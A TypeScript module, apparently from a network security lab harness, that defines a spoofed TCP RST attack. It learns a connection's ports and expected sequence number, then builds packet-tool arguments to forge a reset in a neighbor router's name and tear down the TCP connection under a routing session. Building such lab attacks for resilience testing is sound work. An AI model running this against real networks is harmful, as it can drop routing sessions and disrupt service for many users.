import type { Attack } from '../attack';
import { overhear } from './overheard';
import { spoofed } from './spoofed';
import type { Shot } from './spoofed';

/** A RST with the ports and the number that the connection expects (RFC 5961 section 3.2). */
export const reset: Shot = async ({ lab }, target) => {
  const { sourcePort, destinationPort, next } = await overhear(lab, target);
  return ['-c', '1', '-s', sourcePort, '-p', destinationPort, '-R', '-M', next];
};

/** A RST in the name of the neighbor ends the connection under a session (RFC 4953). */
export const spoofedReset: Attack = {
  name: 'spoofed-reset',
  summary: 'sends a TCP RST in the name of a border to its PE, with the right ports and number, from two hops away',
  attacked: 'the TCP connection under the session of an uplink',
  ...spoofed('4 packets/s', reset),
};
